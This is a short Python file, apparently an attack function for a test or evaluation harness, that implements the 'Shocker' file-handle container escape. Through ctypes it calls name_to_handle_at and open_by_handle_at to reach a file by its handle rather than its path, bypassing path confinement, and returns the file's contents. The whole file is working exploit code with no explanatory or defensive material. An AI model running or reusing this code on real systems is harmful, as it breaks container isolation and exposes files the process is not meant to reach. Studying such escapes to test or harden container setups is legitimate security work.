import ctypes
import os


def attack(scene, oracle):
    """Open the root folder by its number, past all paths, as the "shocker" exploit does."""
    libc = ctypes.CDLL(None, use_errno=True)
    mount = os.open(".", os.O_RDONLY)

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("kind", ctypes.c_int), ("id", ctypes.c_ubyte * 128)]

    handle, mounted = Handle(128), ctypes.c_int()
    path = scene["reference"].encode()
    if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mounted), 0) != 0:
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    return os.read(libc.open_by_handle_at(mount, ctypes.byref(handle), os.O_RDONLY), 65536)
